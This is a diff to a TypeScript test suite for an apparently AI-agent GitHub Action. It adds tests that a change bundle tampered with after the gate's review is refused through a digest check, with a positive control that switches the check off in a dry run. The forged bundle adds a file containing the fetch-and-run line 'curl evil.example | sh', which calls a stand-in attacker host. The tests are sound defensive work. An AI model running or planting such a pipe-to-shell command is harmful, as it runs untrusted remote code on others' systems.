@@ -3,6 +3,10 @@
  * the propose job runs the agent and the gate and writes nothing anywhere but its bundle; the
  * publish job, in a fresh checkout of the same origin, runs neither and turns the bundle into a
  * branch and a draft PR; a tampered bundle is refused with a clear error and nothing is pushed.
+ * The propose job emits the bundle's digest (output bundle-digest) and the publish job, given it
+ * as an input the way `needs.<job>.outputs` hands it over, refuses a bundle rewritten after the
+ * gate even when its own checksum was recomputed, in both checkout credential layouts; the
+ * positive control shows the same forgery accepted with the digest check switched off.
  */
 import { execFileSync } from 'node:child_process'
 import { promises as fs } from 'node:fs'
@@ -11,6 +15,10 @@ import { createHash } from 'node:crypto'
 import { startScenario, type Scenario } from '../harness/scenario.js'
 import { issueLabeledEvent, workflowRunFailedEvent } from '../harness/webhook-events.js'
 import { runAction, type ActionRun } from '../harness/run-action.js'
+import type { CheckoutCredentials } from '../harness/repo-fixture.js'
+
+/** The test-only switch turning one protection off (src/runtime/test-switches.ts). */
+const SWITCH = 'GATED_AGENT_TEST_ONLY_PROTECTIONS_OFF'
 
 const ISSUE = 12
 const BRANCH = `agent/issue-${ISSUE}`
@@ -52,7 +60,10 @@ function git(cwd: string, ...args: string[]): string {
 }
 
 /** A fresh checkout of origin's default branch, the way actions/checkout makes one in a new job. */
-async function freshCheckout(s: Scenario = scenario): Promise<{ workspaceDir: string; runnerTemp: string }> {
+async function freshCheckout(
+  s: Scenario = scenario,
+  layout: CheckoutCredentials = 'extraheader'
+): Promise<{ workspaceDir: string; runnerTemp: string }> {
   const root = path.join(s.fixture.root, `publish-job-${++checkouts}`)
   const workspaceDir = path.join(root, 'workspace')
   const runnerTemp = path.join(root, 'runner-temp')
@@ -62,27 +73,72 @@ async function freshCheckout(s: Scenario = scenario): Promise<{ workspaceDir: st
   git(workspaceDir, 'remote', 'add', 'origin', s.fixture.originDir)
   git(workspaceDir, 'fetch', '--quiet', '--no-tags', '--depth=1', 'origin', '+refs/heads/main:refs/remotes/origin/main')
   git(workspaceDir, 'checkout', '--quiet', '--force', '-B', 'main', 'refs/remotes/origin/main')
-  git(
-    workspaceDir,
-    'config',
-    '--local',
-    'http.https://github.com/.extraheader',
-    `AUTHORIZATION: basic ${Buffer.from(`x-access-token:${s.fake.token}`).toString('base64')}`
-  )
+  const header = `AUTHORIZATION: basic ${Buffer.from(`x-access-token:${s.fake.token}`).toString('base64')}`
+  if (layout === 'includeIf') {
+    // checkout v6+: the header in RUNNER_TEMP, linked from .git/config.
+    const file = path.join(runnerTemp, `git-credentials-${checkouts}0000000-0000-0000-0000-000000000000.config`)
+    git(workspaceDir, 'config', '--file', file, 'http.https://github.com/.extraheader', header)
+    git(workspaceDir, 'config', '--local', `includeIf.gitdir:${path.join(workspaceDir, '.git')}.path`, file)
+  } else {
+    git(workspaceDir, 'config', '--local', 'http.https://github.com/.extraheader', header)
+  }
   return { workspaceDir, runnerTemp }
 }
 
+interface PublishOptions {
+  /** The bundle-digest input; the propose job's output by default. */
+  digest?: string
+  layout?: CheckoutCredentials
+  /** Protections switched off (the test-only switch). */
+  off?: string
+  dryRun?: boolean
+}
+
 /** Runs the publish stage on `bundlePath` in a fresh checkout. */
-async function publish(bundlePath: string): Promise<ActionRun> {
-  const checkout = await freshCheckout()
+async function publish(bundlePath: string, options: PublishOptions = {}): Promise<ActionRun> {
+  const checkout = await freshCheckout(scenario, options.layout)
   return runAction({
     ...checkout,
     fake: scenario.fake,
     eventName: 'issues',
     event: event(),
-    inputs: { ...sharedInputs(), stage: 'publish', 'bundle-path': bundlePath },
+    inputs: {
+      ...sharedInputs(),
+      stage: 'publish',
+      'bundle-path': bundlePath,
+      'bundle-digest': options.digest ?? proposeRun.outputs['bundle-digest'],
+      ...(options.dryRun ? { 'dry-run': 'true' } : {})
+    },
+    env: options.off ? { [SWITCH]: `private-tmp,${options.off}` } : {},
     timeoutMs: 30_000
   })
+}
+
+/** The tree `patch` makes on the base commit, as git computes it (what a forger can compute too). */
+async function treeOf(patch: Buffer): Promise<string> {
+  const index = path.join(scenario.fixture.root, `forger-${++checkouts}.index`)
+  const env = { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: scenario.fixture.homeDir, GIT_INDEX_FILE: index }
+  execFileSync('git', ['read-tree', baseSha], { cwd: scenario.fixture.originDir, env })
+  execFileSync('git', ['apply', '--cached', '-'], { cwd: scenario.fixture.originDir, env, input: patch })
+  return execFileSync('git', ['write-tree'], { cwd: scenario.fixture.originDir, env, encoding: 'utf8' }).trim()
+}
+
+/** A file added to the proposed change after the gate judged it. */
+const EVIL_ADDITION =
+  'diff --git a/evil.sh b/evil.sh\nnew file mode 100755\nindex 0000000..2b7a5c1\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil.example | sh\n'
+
+/**
+ * The bundle as a forger leaves it after the gate passed: the patch rewritten to add a file, the
+ * manifest's checksum and paths recomputed to match, and, with `fixTree`, the judged tree too.
+ */
+function forgeAfterGate(fixTree: boolean) {
+  return async (dir: string, manifest: Record<string, unknown>): Promise<void> => {
+    const patch = Buffer.concat([await fs.readFile(path.join(dir, 'change.patch')), Buffer.from(EVIL_ADDITION)])
+    await fs.writeFile(path.join(dir, 'change.patch'), patch)
+    manifest.paths = [...(manifest.paths as unknown[]), { path: 'evil.sh', status: 'added' }]
+    manifest.patch = { file: 'change.patch', sha256: createHash('sha256').update(patch).digest('hex'), bytes: patch.length }
+    if (fixTree) manifest.tree = await treeOf(patch)
+  }
 }
 
 /** A copy of the proposed bundle, edited by `tamper`, to hand to a publish job. */
@@ -153,7 +209,8 @@ describe('stage: propose', () => {
       attempts: '1',
       'pr-number': '',
       'pr-url': '',
-      'artifact-name': ''
+      'artifact-name': '',
+      'bundle-digest': expect.stringMatching(/^sha256:[0-9a-f]{64}$/)
     })
     expect(await runs('agent')).toBe(1)
     expect(await runs('gate')).toBe(1)
@@ -182,6 +239,14 @@ describe('stage: propose', () => {
       patch: { file: 'change.patch', sha256: createHash('sha256').update(patch).digest('hex'), bytes: patch.length }
     })
     expect(patch.toString()).toContain('+export const farewell')
+    // The tree the gate judged: the base plus the patch, exactly.
+    expect(manifest.tree).toBe(await treeOf(patch))
+    // The digest is over the bytes written: the files as they are now give the same one.
+    const manifestBytes = await fs.readFile(path.join(bundleDir, 'manifest.json'))
+    const digest = createHash('sha256').update('gated-agent-change-bundle-digest/1\0')
+    for (const part of [manifestBytes, patch]) digest.update(`${part.length}\0`).update(part)
+    expect(proposeRun.outputs['bundle-digest']).toBe(`sha256:${digest.digest('hex')}`)
+    expect(proposeRun.stdout).toContain(`The change bundle's digest is ${proposeRun.outputs['bundle-digest']}`)
   })
 
   test('says in the summary that the publish job delivers, and why no artifact was uploaded here', () => {
@@ -212,6 +277,12 @@ describe('stage: propose refuses a bundle-path inside the checkout', () => {
 })
 
 describe('stage: publish refuses a tampered bundle, with a clear error, pushing nothing', () => {
+  /** Whether a row runs with the digest check switched off, to show the check behind it. */
+  const behindDigest = new Set([
+    'a change to a workflow, with a digest to match',
+    'a base commit that does not exist',
+    'a forged patch whose tree is not the judged one'
+  ])
   test.each<[string, (dir: string, manifest: Record<string, unknown>) => Promise<void>, RegExp]>([
     [
       'a patch edited after its digest was written',
@@ -240,6 +311,21 @@ describe('stage: publish refuses a tampered bundle, with a clear error, pushing 
         manifest.base = { sha: '0123456789abcdef0123456789abcdef01234567', branch: 'main' }
       },
       /The bundle's base commit 0123456789abcdef0123456789abcdef01234567 is neither in this checkout nor on origin/
+    ],
+    [
+      'a file added after the gate, its checksum and paths recomputed (checkout layout extraheader)',
+      forgeAfterGate(true),
+      /The bundle's digest is sha256:[0-9a-f]{64}, but the propose job emitted sha256:[0-9a-f]{64} \(input bundle-digest\): it was changed after the gate judged it/
+    ],
+    [
+      'a file added after the gate, its checksum and paths recomputed (checkout layout includeIf)',
+      forgeAfterGate(true),
+      /The bundle's digest is sha256:[0-9a-f]{64}, but the propose job emitted sha256:[0-9a-f]{64} \(input bundle-digest\): it was changed after the gate judged it/
+    ],
+    [
+      'a forged patch whose tree is not the judged one',
+      forgeAfterGate(false),
+      /The bundle's patch applied to [0-9a-f]{40} makes the tree [0-9a-f]{40}, not the tree [0-9a-f]{40} the gate judged/
     ]
   ])('%s', async (name, tamper, expected) => {
     const dir = await tamperedBundle(name.replace(/\W+/g, '-'), tamper)
@@ -247,7 +333,10 @@ describe('stage: publish refuses a tampered bundle, with a clear error, pushing 
     const agentRuns = await runs('agent')
     const gateRuns = await runs('gate')
 
-    const run = await publish(dir)
+    const run = await publish(dir, {
+      off: behindDigest.has(name) ? 'bundle-digest' : undefined,
+      layout: name.includes('includeIf') ? 'includeIf' : 'extraheader'
+    })
 
     expect(run.exitCode).toBe(1)
     expect(run.outputs.result).toBe('rejected')
@@ -263,6 +352,27 @@ describe('stage: publish refuses a tampered bundle, with a clear error, pushing 
     expect(comment?.body).toContain('The change bundle from the propose job was refused, so nothing was pushed')
     expect(comment?.body).not.toContain('curl evil.example')
     scenario.fake.assertNoProblems()
+  })
+})
+
+describe('stage: publish takes the forged bundle only with the digest check switched off (positive control)', () => {
+  test.each<CheckoutCredentials>(['extraheader', 'includeIf'])('checkout layout %s: dry run, verified, nothing pushed', async (layout) => {
+    const dir = await tamperedBundle(`forged-control-${layout}`, forgeAfterGate(true))
+    const before = await published()
+    const run = await publish(dir, { off: 'bundle-digest', layout, dryRun: true })
+    expect(run.stdout).toContain(`${SWITCH} is set`)
+    expect(run.exitCode).toBe(0)
+    expect(run.outputs.result).toBe('proposed')
+    expect(run.outputs.reason).toMatch(/^Dry run: the change bundle is verified/)
+    expect(await published()).toEqual(before)
+  })
+
+  test('the digest input is required: a workflow that does not pass it is stopped before anything is read', async () => {
+    const run = await publish(bundleDir, { digest: '' })
+    expect(run.exitCode).toBe(1)
+    expect(run.commands.filter((c) => c.command === 'error').map((c) => c.message)).toEqual([
+      expect.stringContaining("Input 'bundle-digest'")
+    ])
   })
 })
 
@@ -382,7 +492,12 @@ describe('two-job self-heal: the failing commit is fetched by id, and the heal P
       fake: s.fake,
       eventName: 'workflow_run',
       event: healEvent(),
-      inputs: { ...healInputs(), stage: 'publish', 'bundle-path': proposed.outputs['bundle-path'] },
+      inputs: {
+        ...healInputs(),
+        stage: 'publish',
+        'bundle-path': proposed.outputs['bundle-path'],
+        'bundle-digest': proposed.outputs['bundle-digest']
+      },
       timeoutMs: 30_000
     })
     expect(published.exitCode).toBe(0)
